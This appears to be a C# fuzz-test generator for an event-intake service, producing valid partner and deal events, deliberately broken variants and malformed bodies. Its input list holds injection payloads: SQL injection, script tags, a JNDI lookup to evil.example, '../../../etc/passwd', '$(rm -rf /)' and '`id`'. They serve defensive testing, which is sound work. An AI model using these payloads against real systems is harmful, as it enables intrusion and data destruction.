using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using CsCheck;

namespace Ecosystem.Host.Tests.Security;

/// <summary>
/// Generators of hostile input for the fuzz tests: strings full of unicode and injection attempts,
/// contract events that are valid, and the same events broken in one way that the contract says
/// must get them rejected.
/// </summary>
internal static class HostileInput
{
    /// <summary>Injection attempts and awkward text, none of them holding a control character (so they are valid in ids).</summary>
    private static readonly string[] Nasty =
    [
        "'; DROP TABLE events; --", "\" OR 1=1 --", "' OR ''='", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%n%x", "../../../etc/passwd", "..\\..\\windows\\win.ini", "\\", "\"", "'",
        "null", "undefined", "NaN", "true", "[object Object]", "{\"$gt\":\"\"}", "$where", "__proto__", "constructor",
        "\u202Egnp.exe", "ｆｕｌｌｗｉｄｔｈ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "👩‍👩‍👧‍👦", "Z̷̢̛͓a̸l̵g̶o̴", "\u00A0", "\u200B", "\uFEFF", "مرحبا",
        "日本語テキスト", "שלום", "😀", "%2F", "%00", "%25", "a/b", "?x=1#frag", "&access=1", "COM1", "$(rm -rf /)", "`id`",
        "Robert'); DROP TABLE Students;--", "\u0130stanbul", "ß", "ǅ", "e\u0301", "\uFFFD", "\uD83D\uDCA9", "+", "=", ";", ",",
    ];

    private static readonly string[] Controls = ["\n", "\r\n", "\t", "\u0000", "\u0001", "\u001F", "\u007F", "\u0085", "\u009F"];

    private static readonly Gen<string> Ascii = Gen.Char[' ', '~'].Array[1, 12].Select(a => new string(a));

    private static readonly Gen<string> Bmp = Gen.OneOf<char>(Gen.Char['\u00A0', '\uD7FF'], Gen.Char['\uE000', '\uFFFD']).Array[1, 6].Select(a => new string(a));

    private static readonly Gen<string> Astral = Gen.Int[0x10000, 0x10FFFF].Select(char.ConvertFromUtf32);

    private static Gen<string> Piece(bool controls) => controls
        ? Gen.Frequency<string>((4, Ascii), (3, Gen.OneOf(Nasty)), (2, Bmp), (1, Astral), (1, Gen.OneOf(Controls)))
        : Gen.Frequency<string>((4, Ascii), (3, Gen.OneOf(Nasty)), (2, Bmp), (1, Astral));

    /// <summary>Text of at most <paramref name="max"/> UTF-16 units (never splitting a surrogate pair), at least one.</summary>
    public static Gen<string> Text(int max, bool controls = false) =>
        Piece(controls).Array[1, 8].Select(pieces => Cut(string.Concat(pieces), max));

    private static string Cut(string s, int max)
    {
        if (s.Length > max)
        {
            var end = max;
            if (char.IsHighSurrogate(s[end - 1]))
            {
                end--;
            }

            s = s[..end];
        }

        return s.Length == 0 ? "x" : s;
    }

    /// <summary>Exactly <paramref name="length"/> UTF-16 units: text padded with ASCII.</summary>
    private static Gen<string> Exactly(int length) => Text(length - 1, controls: true).Select(s => s + new string('x', length - s.Length));

    /// <summary>An id: 1-200 printable characters, unique thanks to its tail.</summary>
    public static readonly Gen<string> Id = Gen.Select(Text(150), Gen.Guid, (s, g) => s + "·" + g.ToString("N")[..12]);

    public enum Kind
    {
        Id,
        Str,
        Text,
        Time,
        Amount,
        Currency,
        Score,
        Count,
        Long,
        StrList,
        Findings,
        Enum,
    }

    /// <param name="Required">The event is rejected without it.</param>
    /// <param name="Always">Always generated (optional fields are otherwise present half the time).</param>
    public sealed record Field(string Name, Kind Kind, bool Required = true, string[]? Values = null, bool Always = false);

    private static Field F(string name, Kind kind, bool required = true, bool always = false) => new(name, kind, required, null, always);

    private static Field E(string name, params string[] values) => new(name, Kind.Enum, true, values);

    private static readonly string[] Currencies = ["USD", "EUR", "JPY", "BHD", "GBP", "CHF", "KWD", "INR"];

    /// <summary>The contract's event table, minus the types whose acceptance depends on earlier events (reviews, lead answers, conversions).</summary>
    public static readonly Dictionary<string, Field[]> Schema = new(StringComparer.Ordinal)
    {
        ["agreement.signed"] = [F("partnerId", Kind.Id), E("document", "nda", "program_terms"), F("version", Kind.Str)],
        ["training.completed"] = [F("partnerId", Kind.Id), F("module", Kind.Str)],
        ["certification.earned"] = [F("partnerId", Kind.Id), F("certification", Kind.Str), F("expiresAt", Kind.Time, required: false)],
        ["partner.engaged"] = [F("partnerId", Kind.Id), F("activity", Kind.Str)],
        ["survey.responded"] = [F("partnerId", Kind.Id), F("score", Kind.Score), F("comment", Kind.Text, required: false)],
        ["deal.registered"] =
        [
            F("dealId", Kind.Id), F("partnerId", Kind.Id), F("accountId", Kind.Id), F("amount", Kind.Amount), F("currency", Kind.Currency),
            F("expectedCloseAt", Kind.Time, required: false), F("products", Kind.StrList, required: false),
        ],
        ["deal.touch"] = [F("dealId", Kind.Id), F("partnerId", Kind.Id), E("role", "sourced", "referral", "implementation", "influenced"), F("activity", Kind.Str, required: false)],
        ["deal.stage_changed"] = [F("dealId", Kind.Id), E("stage", "prospect", "qualified", "proposal", "negotiation")],
        ["deal.amount_changed"] = [F("dealId", Kind.Id), F("amount", Kind.Amount), F("currency", Kind.Currency)],
        // With an amount, the currency is required; without one it is optional. The generator always sends both.
        ["deal.closed"] = [F("dealId", Kind.Id), E("outcome", "won", "lost"), F("amount", Kind.Amount, required: false, always: true), F("currency", Kind.Currency)],
        ["deal.message"] = [F("dealId", Kind.Id), F("author", Kind.Str), F("text", Kind.Text)],
        ["lead.submitted"] =
        [
            F("leadId", Kind.Id), F("accountId", Kind.Id), F("region", Kind.Str), F("industry", Kind.Str, required: false), E("source", "marketing", "alliance"),
        ],
        ["account.churned"] = [F("accountId", Kind.Id)],
        ["integration.validation_reported"] =
        [
            F("integrationId", Kind.Id), F("suite", Kind.Str), F("passed", Kind.Count), F("failed", Kind.Count), F("p95LatencyMs", Kind.Amount),
            F("securityFindings", Kind.Findings, required: false),
        ],
        ["integration.installed"] = [F("integrationId", Kind.Id), F("accountId", Kind.Id)],
        ["integration.uninstalled"] = [F("integrationId", Kind.Id), F("accountId", Kind.Id)],
        ["integration.error_reported"] = [F("integrationId", Kind.Id), F("errors", Kind.Long), F("calls", Kind.Long)],
        ["marketplace.viewed"] = [F("integrationId", Kind.Id), F("accountId", Kind.Id, required: false)],
    };

    /// <summary>Types a partner key may send as itself.</summary>
    public static readonly string[] PartnerTypes =
        ["agreement.signed", "training.completed", "certification.earned", "partner.engaged", "survey.responded", "deal.registered", "deal.touch"];

    private static readonly Field[] Common = [F("id", Kind.Id), F("type", Kind.Enum), F("occurredAt", Kind.Time)];

    private static Gen<JsonNode?> ValueOf(Field field) => field.Kind switch
    {
        Kind.Id => Id.Select(s => (JsonNode?)s),
        Kind.Str => Text(150).Select(s => (JsonNode?)s),
        Kind.Text => Gen.Frequency<string>((9, Text(400, controls: true)), (1, Exactly(10_000))).Select(s => (JsonNode?)s),
        Kind.Time => PastTime,
        Kind.Amount => Gen.Frequency<decimal>((3, Gen.Long[0, 100_000_000_000].Select(l => (decimal)l / 100)), (1, Gen.Long[0, 1_000_000].Select(l => (decimal)l)))
            .Select(d => (JsonNode?)d),
        Kind.Currency => Gen.OneOf(Currencies).Select(s => (JsonNode?)s),
        Kind.Score => Gen.Int[0, 10].Select(i => (JsonNode?)i),
        Kind.Count => Gen.Int[0, 1_000_000].Select(i => (JsonNode?)i),
        Kind.Long => Gen.Long[0, 10_000_000_000].Select(l => (JsonNode?)l),
        Kind.StrList => Text(60).Array[0, 5].Select(a => (JsonNode?)new JsonArray([.. a.Select(s => (JsonNode?)s)])),
        Kind.Findings => Gen.Select(Gen.OneOf("low", "medium", "high"), Text(300, controls: true))
            .Array[0, 3].Select(a => (JsonNode?)new JsonArray([.. a.Select(f => (JsonNode?)new JsonObject { ["severity"] = f.Item1, ["title"] = f.Item2 })])),
        _ => Gen.OneOf(field.Values!).Select(s => (JsonNode?)s),
    };

    /// <summary>A past time with an offset, in one of the forms the contract allows.</summary>
    private static readonly Gen<JsonNode?> PastTime = Gen.Select(Gen.Int[90, 400 * 86_400], Gen.Int[0, 3], (ago, form) =>
    {
        var t = DateTimeOffset.UtcNow.AddSeconds(-ago);
        return (JsonNode?)(form switch
        {
            0 => t.ToString("O", CultureInfo.InvariantCulture),
            1 => t.ToOffset(TimeSpan.FromMinutes(330)).ToString("yyyy-MM-dd'T'HH:mm:sszzz", CultureInfo.InvariantCulture),
            2 => t.ToString("yyyy-MM-dd'T'HH:mm'Z'", CultureInfo.InvariantCulture),
            _ => t.ToOffset(TimeSpan.FromHours(-7)).ToString("yyyy-MM-dd'T'HH:mm:ss.fffzzz", CultureInfo.InvariantCulture),
        });
    });

    /// <summary>Fields no event has, which the intake ignores (and keeps, since it stores what was sent).</summary>
    private static readonly Gen<(string Name, JsonNode? Value)[]> Extras = Gen.Select(
        Gen.OneOf("__proto__", "constructor", "$where", "Id", "TYPE", "x-extra", "ünïcödé", "", "id ", "partnerID", "<b>"),
        Gen.OneOf<JsonNode?>(Text(50).Select(s => (JsonNode?)s), Gen.Int.Select(i => (JsonNode?)i), Gen.Const<JsonNode?>((JsonNode?)null)))
        .Array[0, 2];

    /// <summary>A valid event of <paramref name="type"/>; with <paramref name="partnerId"/>, naming that partner.</summary>
    public static Gen<JsonObject> Valid(string type, Gen<string>? partnerId = null)
    {
        var fields = Schema[type];
        Gen<List<(string, JsonNode?)>> values = Gen.Const(() => new List<(string, JsonNode?)>());
        foreach (var field in fields)
        {
            var value = field.Name == "partnerId" && partnerId is not null ? partnerId.Select(p => (JsonNode?)p) : ValueOf(field);
            var present = field.Required || field.Always ? Gen.Const(true) : Gen.Bool;
            values = from list in values
                     from include in present
                     from v in value
                     select include ? [.. list, (field.Name, v)] : list;
        }

        return from id in Id
               from at in PastTime
               from list in values
               from extras in Extras
               select Build(type, id, at, list, extras);
    }

    private static JsonObject Build(string type, string id, JsonNode? at, List<(string Name, JsonNode? Value)> fields, (string Name, JsonNode? Value)[] extras)
    {
        var o = new JsonObject { ["id"] = id, ["type"] = type, ["occurredAt"] = at };
        foreach (var (name, value) in fields)
        {
            o[name] = value;
        }

        if (type == "integration.error_reported")
        {
            // errors cannot exceed calls.
            o["errors"] = Math.Min(o["errors"]!.GetValue<long>(), o["calls"]!.GetValue<long>());
        }

        foreach (var (name, value) in extras)
        {
            o.TryAdd(name, value);
        }

        return o;
    }

    /// <summary>One way to break an event; every one of them must get it rejected.</summary>
    public enum Breakage
    {
        Missing,
        Null,
        WrongType,
        TooLong,
        Control,
        Blank,
        Empty,
        BadTime,
        Future,
        BadEnum,
        Negative,
        Huge,
        OutOfRange,
        BadCurrency,
        UnknownType,
        ErrorsOverCalls,
        BadList,
        NotAnObject,
    }

    /// <summary>An event as sent (any JSON), whether the contract accepts it, and what was done to it.</summary>
    public sealed record Sample(JsonNode? Json, bool Valid, string What)
    {
        public override string ToString() => $"{What}: {Json?.ToJsonString() ?? "null"}";
    }

    /// <summary>A valid event, or one broken in one way (about half of each).</summary>
    public static Gen<Sample> Event(string[] types, Gen<string>? partnerId = null) =>
        from type in Gen.OneOf(types)
        from e in Valid(type, partnerId)
        from broken in Gen.Bool
        from how in Gen.Enum<Breakage>()
        from pick in Gen.Int[0, 1000]
        from variant in Gen.Int[0, 1000]
        from junk in Text(40)
        select broken ? Break(type, e, how, pick, variant, junk) : new Sample(e, true, "valid " + type);

    private static Sample Break(string type, JsonObject e, Breakage how, int pick, int variant, string junk)
    {
        var fields = Common.Concat(Schema[type]).Where(f => e.ContainsKey(f.Name)).ToList();
        Field? Choose(Func<Field, bool> which)
        {
            var candidates = fields.Where(which).ToList();
            return candidates.Count == 0 ? null : candidates[pick % candidates.Count];
        }

        Sample Set(Field? f, JsonNode? value, string what)
        {
            if (f is null)
            {
                // Nothing of that kind in this event: break it the plain way.
                e.Remove("id");
                return new Sample(e, false, "missing id");
            }

            e[f.Name] = value;
            return new Sample(e, false, $"{what} {f.Name}");
        }

        var required = (Field f) => f.Required || Common.Contains(f);
        switch (how)
        {
            case Breakage.Missing:
                var missing = Choose(required)!;
                e.Remove(missing.Name);
                return new Sample(e, false, "missing " + missing.Name);
            case Breakage.Null:
                return Set(Choose(required), null, "null");
            case Breakage.WrongType:
                var f = Choose(_ => true)!;
                return Set(f, WrongTypeFor(f.Kind, variant, junk), "wrong type of");
            case Breakage.TooLong:
                var longOne = Choose(x => x.Kind is Kind.Id or Kind.Str or Kind.Text or Kind.Enum or Kind.Currency);
                var limit = longOne?.Kind switch { Kind.Text => 10_000, Kind.Currency => 3, _ => 200 };
                return Set(longOne, new string('L', limit + 1 + (variant % 50)), "too long");
            case Breakage.Control:
                var idField = Choose(x => x.Kind == Kind.Id);
                var id = idField is null ? "" : e[idField.Name]!.GetValue<string>();
                var at = variant % (id.Length + 1);
                return Set(idField, id[..at] + Controls[variant % Controls.Length] + id[at..], "control character in");
            case Breakage.Blank:
                return Set(Choose(x => x.Kind == Kind.Id), variant % 2 == 0 ? "   " : "\u00A0\u2003", "blank");
            case Breakage.Empty:
                return Set(Choose(x => required(x) && x.Kind is Kind.Id or Kind.Str or Kind.Text or Kind.Enum or Kind.Currency or Kind.Time), "", "empty");
            case Breakage.BadTime:
                string[] bad = ["yesterday", "2026-01-01", "2026-01-01T10:00:00", "2026-13-45T99:99:99Z", "1700000000", "2026-01-01 10:00:00Z", "+002026-01-01T00:00:00Z", junk];
                return Set(Choose(x => x.Kind == Kind.Time), bad[variant % bad.Length], "bad time in");
            case Breakage.Future:
                e["occurredAt"] = DateTimeOffset.UtcNow.AddMinutes(10 + (variant * 500)).ToString("O", CultureInfo.InvariantCulture);
                return new Sample(e, false, "future occurredAt");
            case Breakage.BadEnum:
                return Set(Choose(x => x.Kind == Kind.Enum), "x-" + junk, "bad value of");
            case Breakage.Negative:
                return Set(Choose(x => x.Kind is Kind.Amount or Kind.Count or Kind.Long or Kind.Score), -1 - (variant / 100m), "negative");
            case Breakage.Huge:
                string[] huge = ["1e400", "1E30", "2000000000000000000", "79228162514264337593543950336", "-1e400"];
                return Set(Choose(x => x.Kind == Kind.Amount), JsonNode.Parse(huge[variant % huge.Length]), "huge");
            case Breakage.OutOfRange:
                JsonNode?[] outside = [11, -1, 2.5m, 100_000, int.MaxValue + 1L];
                return Set(Choose(x => x.Kind == Kind.Score), outside[variant % outside.Length], "out of range");
            case Breakage.BadCurrency:
                string[] currencies = ["usd", "XXX", "US", "€", "US$", "ZZZ"];
                return Set(Choose(x => x.Kind == Kind.Currency), currencies[variant % currencies.Length], "bad currency");
            case Breakage.UnknownType:
                e["type"] = variant % 2 == 0 ? "deal.exploded" : "x." + junk;
                return new Sample(e, false, "unknown type");
            case Breakage.ErrorsOverCalls when type == "integration.error_reported":
                e["errors"] = e["calls"]!.GetValue<long>() + 1 + variant;
                return new Sample(e, false, "errors over calls");
            case Breakage.BadList:
                var list = Choose(x => x.Kind is Kind.StrList or Kind.Findings);
                JsonNode? badList = list?.Kind == Kind.Findings
                    ? (variant % 3) switch
                    {
                        0 => new JsonArray("a finding as a string"),
                        1 => new JsonArray(new JsonObject { ["severity"] = "critical", ["title"] = junk }),
                        _ => new JsonArray(new JsonObject { ["title"] = junk }),
                    }
                    : (variant % 3) switch
                    {
                        0 => new JsonArray(1, 2),
                        1 => new JsonArray([.. Enumerable.Range(0, 101).Select(i => (JsonNode?)("p" + i))]),
                        _ => new JsonArray(new string('p', 201)),
                    };
                return Set(list, badList, "bad list");
            case Breakage.NotAnObject:
                JsonNode?[] notObjects = [42, "an event", new JsonArray(), null, true, new JsonArray(new JsonObject { ["id"] = "nested" })];
                var chosen = notObjects[variant % notObjects.Length];
                return new Sample(chosen, false, "not an object");
            default:
                e.Remove("type");
                return new Sample(e, false, "missing type");
        }
    }

    private static JsonNode? WrongTypeFor(Kind kind, int variant, string junk)
    {
        JsonNode?[] forStrings = [12345, true, new JsonObject { ["a"] = junk }, new JsonArray(junk), 1.5];
        JsonNode?[] forNumbers = ["12", junk, false, new JsonObject(), new JsonArray(1)];
        JsonNode?[] forLists = [junk, 7, new JsonObject { ["0"] = junk }];
        var options = kind switch
        {
            Kind.Amount or Kind.Score or Kind.Count or Kind.Long => forNumbers,
            Kind.StrList or Kind.Findings => forLists,
            _ => forStrings,
        };
        return options[variant % options.Length];
    }

    public static string Serialize(JsonNode? node, bool relaxed) =>
        node?.ToJsonString(relaxed ? RelaxedJson : StrictJson) ?? "null";

    private static readonly JsonSerializerOptions StrictJson = new() { Encoder = JavaScriptEncoder.Default };
    private static readonly JsonSerializerOptions RelaxedJson = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>Same JSON, compared strictly: strings ordinal, numbers by their text, objects by their members.</summary>
    public static bool Same(JsonElement a, JsonElement b) => a.ValueKind == b.ValueKind && a.ValueKind switch
    {
        JsonValueKind.Object => a.EnumerateObject().Count() == b.EnumerateObject().Count()
            && a.EnumerateObject().All(p => b.TryGetProperty(p.Name, out var q) && Same(p.Value, q)),
        JsonValueKind.Array => a.GetArrayLength() == b.GetArrayLength() && a.EnumerateArray().Zip(b.EnumerateArray()).All(x => Same(x.First, x.Second)),
        JsonValueKind.String => string.Equals(a.GetString(), b.GetString(), StringComparison.Ordinal),
        JsonValueKind.Number => a.GetRawText() == b.GetRawText(),
        _ => true,
    };

    /// <summary>Bodies that are not what an endpoint expects, down to the bytes.</summary>
    public static readonly Gen<(string What, byte[] Body)> MalformedBody = Gen.OneOf<(string What, byte[] Body)>(
        Gen.Byte.Array[0, 300].Select(b => ("random bytes", b)),
        Gen.Select(Valid("deal.touch"), Gen.Int[0, 1000], (e, cut) =>
        {
            var text = e.ToJsonString();
            return ("truncated event", Encoding.UTF8.GetBytes(text[..(cut % Math.Max(1, text.Length))]));
        }),
        Gen.Int[1, 400].Select(depth => ("deep arrays", Encoding.UTF8.GetBytes(new string('[', depth) + new string(']', depth)))),
        Gen.Int[1, 200].Select(depth => ("deep objects", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth)))),
        Gen.OneOf(
            "NaN", "Infinity", "1e99999", "-", "\"\\ud800\"", "{\"id\":\"\\ud800\",\"type\":\"deal.touch\"}", "\uFEFF{}", "{\"a\":1,}", "/* c */ {}",
            "{'id':'x'}", "{\"id\":\"a\",\"id\":\"b\",\"type\":\"x\",\"type\":\"deal.touch\"}", "[]", "{}", "null", "true", "0", "\"\"", "[null]",
            "[[{}]]", "{\"events\":[]}", "{\"name\":null}", "{\"role\":\"admin\"}", "{\"role\":\"partner\",\"partnerId\":\"\"}",
            "{\"attribution\":{\"defaultModel\":\"nope\"}}", "{\"routing\":{\"offerTimeoutSeconds\":-5}}", "{\"fxRates\":[{\"currency\":\"EUR\"}]}",
            "{\"reportingCurrency\":\"usd\"}", "{\"tiers\":{\"levels\":[]}}", "{\"health\":{\"weights\":{\"engagement\":-1}}}")
            .Select(s => ("special", Encoding.UTF8.GetBytes(s))),
        Gen.Select(Valid("deal.message"), Gen.Bool, (e, be) => ("utf-16 event", (be ? Encoding.BigEndianUnicode : Encoding.Unicode).GetBytes(e.ToJsonString()))),
        Gen.Int[1, 300].Select(kb => ("long string", Encoding.UTF8.GetBytes("{\"id\":\"" + new string('a', kb * 1024) + "\",\"name\":\"" + new string('b', kb) + "\"}"))),
        JsonValue(3).Select(v => ("random json", Encoding.UTF8.GetBytes(Serialize(v, relaxed: true)))));

    /// <summary>Any JSON value, nested up to <paramref name="depth"/>.</summary>
    private static Gen<JsonNode?> JsonValue(int depth)
    {
        var leaf = Gen.OneOf<JsonNode?>(
            Gen.Const<JsonNode?>((JsonNode?)null),
            Gen.Bool.Select(b => (JsonNode?)b),
            Gen.Long.Select(l => (JsonNode?)l),
            Gen.Double.Where(d => double.IsFinite(d)).Select(d => (JsonNode?)d),
            Text(80, controls: true).Select(s => (JsonNode?)s));
        if (depth == 0)
        {
            return leaf;
        }

        var inner = JsonValue(depth - 1);
        return Gen.Frequency<JsonNode?>(
            (3, leaf),
            (1, inner.Array[0, 4].Select(a => (JsonNode?)new JsonArray(a))),
            (2, Gen.Select(Gen.OneOf<string>(Gen.OneOf("id", "type", "occurredAt", "dealId", "partnerId", "name", "role", "region", "attribution"), Text(20)), inner)
                .Array[0, 5].Select(kv =>
                {
                    var o = new JsonObject();
                    foreach (var (k, v) in kv)
                    {
                        o.TryAdd(k, v);
                    }

                    return (JsonNode?)o;
                })));
    }
}
